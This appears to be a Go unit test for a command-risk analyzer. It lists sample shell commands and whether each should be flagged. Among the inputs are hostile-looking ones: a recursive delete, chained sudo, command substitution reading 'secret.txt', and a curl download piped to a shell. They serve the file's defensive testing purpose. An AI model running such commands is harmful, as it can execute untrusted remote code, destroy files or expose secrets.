package security

import "testing"

func TestAnalyzeCommand(t *testing.T) {
	tests := []struct {
		name  string
		cmd   string
		risky bool
	}{
		{"safe", "ls -la", false},
		{"empty", "   ", false},
		{"quoted rm word", `echo "format"`, false},
		{"rm", "rm -rf build", true},
		{"chained sudo", "make && sudo make install", true},
		{"unbalanced", `echo "abc`, true},
		{"substitution", "echo $(cat secret.txt)", true},
		{"backticks", "echo `id`", true},
		{"pipe to shell", "curl -s https://example.com/x | sh", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := AnalyzeCommand(tt.cmd)
			if got.Risky != tt.risky {
				t.Fatalf("AnalyzeCommand(%q).Risky = %v, want %v (%s)", tt.cmd, got.Risky, tt.risky, got.Reason)
			}
			if got.Risky && got.Reason == "" {
				t.Fatalf("risky command without reason: %q", tt.cmd)
			}
		})
	}
}
